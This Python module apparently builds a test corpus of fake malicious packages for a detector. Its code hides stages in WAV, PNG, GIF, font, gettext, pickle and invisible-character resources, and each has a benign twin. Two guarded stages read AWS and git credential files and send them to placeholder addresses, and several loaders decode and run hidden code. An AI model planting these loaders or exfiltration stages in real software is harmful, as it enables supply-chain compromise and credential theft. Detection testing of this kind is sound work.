"""T12: the code lies in a picture, a sound or another resource, and is run from there (ATT&CK T1027.003).

Known from packages whose second stage came in the samples of a WAV file, in the lowest bits of a
PNG, behind the end of a GIF, in fonts, or as characters that are not shown. What is hidden here
prints a marker, or sends a planted file to an address that belongs to nobody, and holds the guard
itself. The twins read the same resources as what they pretend to be.
"""

from __future__ import annotations

import base64
import gzip
import io
import marshal
import struct
import wave
import zipfile
import zlib

from models.phase import Phase
from tests.corpus.guard import GUARD, acting, indented
from tests.corpus.parts import IN_TREE, PACKER
from tests.corpus.recipe import Channel, Encoding, Kind, Recipe

PRINTS = "print('reenact: a marker')\n"
KEY = b"\x13\x37\x5a\xa5\x42\x99\x07\xee"


def guarded(body: str) -> str:
    """A hidden stage; it asks for the harness marker once more."""
    return f"{GUARD}\ndef stage():\n{indented(body)}\n\nif ACT:\n    stage()\n"


POSTS_DECOY = guarded("""
import urllib.request
try:
    data = (HOME / ".aws/credentials").read_bytes()
    urllib.request.urlopen("http://203.0.113.121/audio", data=data, timeout=5).close()
except OSError:
    pass
""")
DATAGRAM_DECOY = guarded("""
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as peer:
        peer.sendto((HOME / ".git-credentials").read_bytes()[:1000], ("198.51.100.124", 5004))
except OSError:
    pass
""")


def sound(payload: bytes) -> bytes:
    """A WAV file; its samples are a key of eight bytes and the payload under it."""
    hidden = KEY + bytes(byte ^ KEY[at % 8] for at, byte in enumerate(payload))
    out = io.BytesIO()
    with wave.open(out, "wb") as file:
        file.setparams((1, 1, 8000, 0, "NONE", "not compressed"))
        file.writeframes(hidden)
    return out.getvalue()


def picture(payload: bytes) -> bytes:
    """A PNG in grey whose lowest bits are a length and the packed payload."""
    packed = zlib.compress(payload, 9)
    bits = [
        byte >> shift & 1
        for byte in struct.pack(">I", len(packed)) + packed
        for shift in range(7, -1, -1)
    ]
    width = 64
    height = -(-len(bits) // width)
    bits += [0] * (width * height - len(bits))
    rows = b"".join(
        b"\0"
        + bytes((128 + 7 * (row + at) % 64) & 0xFE | bits[row * width + at] for at in range(width))
        for row in range(height)
    )

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    body = chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + body


def animated(main: str) -> bytes:
    """A GIF of one pixel with a zip behind its end, which Python runs as it is."""
    pixel = base64.b64decode("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("__main__.py", (2026, 1, 1, 0, 0, 0)), main)
    return pixel + out.getvalue()


def font(source: str) -> bytes:
    """A file that begins like a WOFF2 font; packed bytecode begins at byte 48."""
    code = marshal.dumps(compile(source, "glyphs", "exec", dont_inherit=True), 2)
    head = b"wOF2" + struct.pack(">IIHH", 0x00010000, 0, 1, 0)
    return head.ljust(48, b"\0") + gzip.compress(code, mtime=0)


def catalogue(messages: dict[str, str]) -> bytes:
    """A gettext catalogue (.mo)."""
    names, values, table = b"", b"", []
    for name, value in sorted(messages.items()):
        table.append((len(name), len(names), len(value), len(values)))
        names += name.encode() + b"\0"
        values += value.encode() + b"\0"
    at = 28 + 16 * len(table)
    out = struct.pack("<7I", 0x950412DE, 0, len(table), 28, 28 + 8 * len(table), 0, 0)
    out += b"".join(struct.pack("<2I", size, at + place) for size, place, _, _ in table)
    out += b"".join(
        struct.pack("<2I", size, at + len(names) + place) for _, _, size, place in table
    )
    return out + names + values


def unseen(text: str) -> str:
    """Each byte as a variation selector, which no editor shows."""
    return "".join(chr(0xFE00 + half) for byte in text.encode() for half in (byte >> 4, byte & 15))


PLAYS = """
import sys, wave
path = pathlib.Path(__file__).parent / "ringtone.wav"
with wave.open(str(path)) as file:
    frames = file.readframes(file.getnframes())
key, hidden = frames[:8], frames[8:]
code = bytes(byte ^ key[at % 8] for at, byte in enumerate(hidden))
try:
    subprocess.run([sys.executable, "-"], input=code, timeout=15)
except (OSError, subprocess.SubprocessError):
    pass
"""
MEASURES = """
import sys, wave
path = pathlib.Path(__file__).parent / "ringtone.wav"
with wave.open(str(path)) as file:
    frames = file.readframes(file.getnframes())
    seconds = file.getnframes() / file.getframerate()
loudest = max(abs(byte - 128) for byte in frames)
if loudest > 128 or seconds < 0:
    print("no sound", file=sys.stderr)
"""

PIXELS = """
import struct, zlib
data = pathlib.Path(__file__).with_name("logo.png").read_bytes()
size = struct.unpack(">I", data[33:37])[0]
rows = zlib.decompress(data[41:41 + size])
bits = [byte & 1 for at, byte in enumerate(rows) if at % 65]
"""
RUNS_BITS = (
    PIXELS
    + """
out = bytes(int("".join(map(str, bits[at:at + 8])), 2) for at in range(0, len(bits) - 7, 8))
length = struct.unpack(">I", out[:4])[0]
exec(compile(zlib.decompress(out[4:4 + length]), "logo.png", "exec"), {})
"""
)
COUNTS_BITS = (
    PIXELS
    + """
if sum(bits) > len(bits):
    raise ValueError("no picture")
"""
)

EVIL_MODEL = b"cbuiltins\nexec\n(S\"print('reenact: a marker')\"\ntR."
PLAIN_MODEL = b"(lp0\nF0.25\naF0.5\naF0.25\na."
LOADS_WEIGHTS = """
import pickle
with (pathlib.Path(__file__).parent / "encoder.pkl").open("rb") as file:
    return pickle.load(file)
"""
LOADS_PLAIN = """
import pickle
with (pathlib.Path(__file__).parent / "weights.pkl").open("rb") as file:
    return pickle.load(file)
"""
PREDICTS = """
def load_model(name="default"):
    \"\"\"Loads the model that the package comes with.\"\"\"
    if ACT:
        return THE_ACT(name)
    return None
"""

RUNS_GIF = """
import runpy
runpy.run_path("assets/loading.gif", run_name="__main__")
"""
SIZES_GIF = """
import struct
data = pathlib.Path("assets/loading.gif").read_bytes()
if data[:6] != b"GIF89a" or struct.unpack("<HH", data[6:10]) != (1, 1):
    raise ValueError("no picture")
"""

GETS_SVG = """
import base64, http.server, threading, urllib.request

class Handler(http.server.SimpleHTTPRequestHandler):
    def __init__(self, *given, **more):
        super().__init__(*given, directory=str(pathlib.Path(__file__).parent), **more)

    def log_message(self, *given):
        pass

server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
server.timeout = 5
threading.Thread(target=server.handle_request, daemon=True).start()
try:
    url = f"http://127.0.0.1:{server.server_port}/badge.svg"
    with urllib.request.urlopen(url, timeout=5) as answer:
        text = answer.read().decode()
finally:
    server.server_close()
"""
RUNS_SVG = (
    GETS_SVG
    + """
code = base64.b64decode(text.partition("<metadata>")[2].partition("</metadata>")[0])
make = type(lambda: None)
make(compile(code, "badge", "exec"), {"__builtins__": __builtins__})()
"""
)
READS_SVG = (
    GETS_SVG
    + """
import xml.etree.ElementTree
badge = xml.etree.ElementTree.fromstring(text)
note = base64.b64decode(badge[0].text)
return badge.attrib["width"], len(note)
"""
)
BADGE = (
    '<svg xmlns="http://svg.reenact.test/2000/svg" width="90" height="20"><metadata>'
    + base64.b64encode(PRINTS.encode()).decode()
    + '</metadata><rect width="90" height="20"/></svg>\n'
)
DRAWS = """
def badge(label="build"):
    \"\"\"Draws a badge.\"\"\"
    if ACT:
        return THE_ACT(label)
    return label
"""

RUNS_FONT = """
import gzip, marshal, types
data = pathlib.Path(__file__).with_name("THE_MODULE_icons.woff2").read_bytes()
code = marshal.loads(gzip.decompress(data[48:]))
types.FunctionType(code, {"__builtins__": __builtins__, "__name__": "glyphs"})()
"""
CHECKS_FONT = """
import gzip, hashlib
data = pathlib.Path(__file__).with_name("THE_MODULE_icons.woff2").read_bytes()
if data[:4] != b"wOF2":
    raise ValueError("no font")
return hashlib.sha256(gzip.decompress(data[48:])).hexdigest()
"""

RUNS_MESSAGE = """
import gettext
with (pathlib.Path(__file__).parent / "locale/nl/LC_MESSAGES/base.mo").open("rb") as file:
    messages = gettext.GNUTranslations(file)
line = bytes.fromhex(messages.gettext("license.key")).decode()
try:
    subprocess.run(["/bin/sh", "-c", line], capture_output=True, timeout=5)
except (OSError, subprocess.SubprocessError):
    pass
"""
READS_MESSAGE = """
import gettext
with (pathlib.Path(__file__).parent / "locale/nl/LC_MESSAGES/base.mo").open("rb") as file:
    messages = gettext.GNUTranslations(file)
return messages.gettext("hello"), bytes.fromhex(messages.gettext("license.key"))
"""
NEXT_WEEK = """
def _old():
    mark = HOME / ".local" / "state" / "THE_MODULE"
    if not mark.exists():
        mark.parent.mkdir(parents=True, exist_ok=True)
        mark.touch()
    return time.time() - mark.stat().st_mtime > 3 * 86400

if ACT:
    if _old():
        THE_ACT()
"""

SEES_UNSEEN = """
text = (pathlib.Path(__file__).parent / "banner.txt").read_text(encoding="utf-8")
halves = [ord(char) - 0xFE00 for char in text if 0xFE00 <= ord(char) < 0xFE10]
code = bytes(high << 4 | low for high, low in zip(halves[::2], halves[1::2]))
exec(code.decode())
"""
SHOWS = """
text = (pathlib.Path(__file__).parent / "banner.txt").read_text(encoding="utf-8")
print("".join(char for char in text if not 0xFE00 <= ord(char) < 0xFE10))
"""
MAIN = "\ndef main():\n    if ACT:\n        THE_ACT()\n    return 0\n"

RECIPES = (
    Recipe(
        technique="T12",
        name="wav-xor-child",
        phase=Phase.IMPORT,
        channel=Channel.HTTP,
        encoding=Encoding.XOR,
        files={
            "THE_MODULE/__init__.py": acting(PLAYS, MEASURES),
            "THE_MODULE/ringtone.wav": sound(POSTS_DECOY.encode()),
        },
        twin_does="measures how long and how loud the sound is",
    ),
    Recipe(
        technique="T12",
        name="png-lowest-bits",
        phase=Phase.IMPORT,
        channel=Channel.NONE,
        encoding=Encoding.ZLIB,
        files={
            "THE_MODULE/__init__.py": "from . import branding\n",
            "THE_MODULE/branding.py": acting(RUNS_BITS, COUNTS_BITS),
            "THE_MODULE/logo.png": picture(PRINTS.encode()),
        },
        twin_does="reads the picture's pixels",
    ),
    Recipe(
        technique="T12",
        name="pickled-model",
        phase=Phase.USE,
        channel=Channel.NONE,
        encoding=Encoding.PLAIN,
        files={
            "THE_MODULE/__init__.py": acting(LOADS_WEIGHTS, LOADS_PLAIN, PREDICTS),
            "THE_MODULE/encoder.pkl": EVIL_MODEL,
            "THE_MODULE/weights.pkl": PLAIN_MODEL,
        },
        twin_does="loads a model of numbers",
    ),
    Recipe(
        technique="T12",
        name="gif-zip-at-build",
        phase=Phase.INSTALL,
        channel=Channel.UDP,
        encoding=Encoding.ARCHIVE,
        kind=Kind.SDIST,
        files={
            "pyproject.toml": IN_TREE,
            "packer.py": PACKER,
            "backend.py": acting(RUNS_GIF, SIZES_GIF, head="from packer import build_wheel\n"),
            "assets/loading.gif": animated(DATAGRAM_DECOY),
            "src/THE_MODULE/__init__.py": '"""A picture that moves."""\n',
        },
        twin_does="reads the size of the picture",
    ),
    Recipe(
        technique="T12",
        name="fetched-svg",
        phase=Phase.USE,
        channel=Channel.SERVER,
        encoding=Encoding.BASE64,
        files={
            "THE_MODULE/__init__.py": acting(RUNS_SVG, READS_SVG, DRAWS),
            "THE_MODULE/badge.svg": BADGE,
        },
        twin_does="reads how wide the badge is",
    ),
    Recipe(
        technique="T12",
        name="font-marshal-start",
        phase=Phase.START,
        channel=Channel.NONE,
        encoding=Encoding.GZIP,
        files={
            "THE_MODULE.pth": "import THE_MODULE_hook\n",
            "THE_MODULE_hook.py": acting(RUNS_FONT, CHECKS_FONT),
            "THE_MODULE_icons.woff2": font(PRINTS),
            "THE_MODULE/__init__.py": "",
        },
        twin_does="checks the font's digest",
    ),
    Recipe(
        technique="T12",
        name="catalogue-shell-later",
        phase=Phase.WAIT,
        channel=Channel.PROCESS,
        encoding=Encoding.HEX,
        files={
            "THE_MODULE/__init__.py": acting(
                RUNS_MESSAGE, READS_MESSAGE, NEXT_WEEK, head="import time\n"
            ),
            "THE_MODULE/locale/nl/LC_MESSAGES/base.mo": catalogue(
                {"": "Content-Type: text/plain; charset=UTF-8\n", "hello": "hallo"}
                | {"license.key": b"echo reenact; true".hex()}
            ),
        },
        twin_does="translates a greeting",
    ),
    Recipe(
        technique="T12",
        name="unseen-characters",
        phase=Phase.USE,
        channel=Channel.NONE,
        encoding=Encoding.HEX,
        files={
            "THE_MODULE/__init__.py": "",
            "THE_MODULE/cli.py": acting(SEES_UNSEEN, SHOWS, MAIN),
            "THE_MODULE/banner.txt": f"* * * wel{unseen(PRINTS)}come * * *\n",
            "THE_MODULE-1.0.dist-info/entry_points.txt": (
                "[console_scripts]\nTHE_PROJECT = THE_MODULE.cli:main\n"
            ),
        },
        twin_does="shows the banner",
    ),
)
